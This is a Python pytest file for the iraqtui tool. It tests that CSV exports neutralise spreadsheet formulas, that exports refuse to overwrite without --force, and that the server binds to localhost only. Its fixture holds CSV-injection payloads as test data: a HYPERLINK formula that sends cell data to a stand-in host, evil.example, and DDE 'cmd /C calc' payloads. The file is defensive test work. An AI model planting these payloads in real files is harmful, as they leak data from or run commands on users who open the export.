"""Exports are safe to open: no spreadsheet formulas, no silent overwrite, serve on localhost."""

from __future__ import annotations

import csv
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

from iraqtui.cli import main
from iraqtui.config import bundled_seeds_dir
from iraqtui.ingest.pipeline import ingest
from iraqtui.store.app_queries import add_note
from iraqtui.store.db import connect, open_db

SEEDS = bundled_seeds_dir()
FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Formula-looking text everywhere: paragraphs, metadata, actors' words, annotations."""
    folder = tmp_path_factory.mktemp("formulas")
    corpus = folder / "corpus"
    corpus.mkdir()
    body = "\n\n".join([*FORMULAS, "Muqtada al-Sadr said the Mahdi Army would stay in Basra."])
    (corpus / "=evil.txt").write_text(body + "\n", encoding="utf-8")
    (corpus / "sources.toml").write_text(
        '[files."=evil.txt"]\n'
        f'title = "{FORMULAS[0].replace(chr(34), chr(92) + chr(34))}"\n'
        f'outlet = "{FORMULAS[1]}"\nauthor = "{FORMULAS[2]}"\nnotes = "{FORMULAS[3]}"\n',
        encoding="utf-8",
    )
    db = open_db(folder / "f.db")
    try:
        ingest(db.conn, [corpus], SEEDS)
    finally:
        db.conn.close()
    conn = connect(folder / "f.db")
    for formula in FORMULAS:
        add_note(conn, f"source:{formula}", "note", formula)
    conn.close()
    return folder / "f.db"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_export_neutralises_every_formula_cell(
    formula_db: Path, no_db_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--db", str(formula_db), "--format", "csv", "--out", "out"]) == 0
    seen: set[str] = set()
    for path in sorted((no_db_env / "out").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.startswith(FORMULA_START) or _number(cell), (path.name, cell)
                    seen.add(cell)
    for formula in FORMULAS:
        assert "'" + formula in seen, f"{formula!r} is not in the export, neutralised"


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv"])
def test_export_never_overwrites_without_force(
    fmt: str, formula_db: Path, no_db_env: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = no_db_env / ("mine.json" if fmt == "json" else "folder")
    if fmt == "json":
        target.write_text("my precious work\n", encoding="utf-8")
        precious = target
    else:
        target.mkdir()
        precious = target / ("sources.csv" if fmt == "csv" else "sources.jsonl")
        precious.write_text("my precious work\n", encoding="utf-8")
    args = ["export", "--db", str(formula_db), "--format", fmt, "--out", str(target)]
    assert main(args) == 1
    err = capsys.readouterr().err
    assert err.startswith("iraqtui: error: ") and "--force" in err and len(err.splitlines()) == 1
    assert precious.read_text(encoding="utf-8") == "my precious work\n"
    assert main([*args, "--force"]) == 0
    assert precious.read_text(encoding="utf-8") != "my precious work\n"
    assert not [p for p in precious.parent.iterdir() if p.name.startswith(".")]  # no temp left


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def _listening(port: int) -> set[str]:
    """Local addresses listening on `port`, from /proc/net/tcp{,6}."""
    found: set[str] = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            address, hex_port = local.rsplit(":", 1)
            if state == "0A" and int(hex_port, 16) == port:
                found.add(address)
    return found


@pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs /proc/net/tcp (Linux)")
def test_serve_listens_on_localhost_only_by_default(seeds_db_path: Path, tmp_path: Path) -> None:
    port = _free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "iraqtui", "serve", "--db", str(seeds_db_path), "--port", str(port)],
        cwd=tmp_path,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 60
        while not _listening(port) and time.monotonic() < deadline and server.poll() is None:
            time.sleep(0.2)
        addresses = _listening(port)
        assert addresses == {"0100007F"}, f"serve listens on {addresses}"  # 127.0.0.1 only
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=30)
